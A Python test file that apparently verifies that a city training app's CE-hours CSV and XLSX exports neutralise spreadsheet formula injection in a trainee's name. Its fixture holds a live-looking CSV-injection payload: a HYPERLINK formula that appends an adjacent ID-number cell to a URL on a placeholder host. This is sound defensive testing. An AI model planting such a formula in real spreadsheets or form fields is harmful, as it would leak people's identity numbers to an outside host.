"""The city's CE-hours export (CSV and XLSX, next to full ID numbers) writes a formula-like name as
text, never a live formula: through dte.core.spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from dte.people.models import Person
from tests.training import helpers as h

FORMULA = '=HYPERLINK("http://x/?"&C2,"点击")'


@pytest.fixture
def certified(running, institution_staff, trainee):
    klass, enrolment, sessions = running
    cert = h.certified(institution_staff, klass, enrolment, sessions)
    Person.objects.filter(pk=trainee.person_id).update(name=FORMULA)
    return cert


def test_the_ce_hours_csv_writes_a_formula_like_name_as_text(client_as, city_officer, certified, trainee):
    r = client_as(city_officer).get("/training/ce-hours/?year=2025&format=csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA and rows[1][2] == trainee.person.id_number


def test_the_ce_hours_xlsx_stores_a_formula_like_name_as_quoted_text(client_as, city_officer, certified):
    r = client_as(city_officer).get("/training/ce-hours/?year=2025&format=xlsx")
    cell = load_workbook(io.BytesIO(r.content)).active.cell(2, 2)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
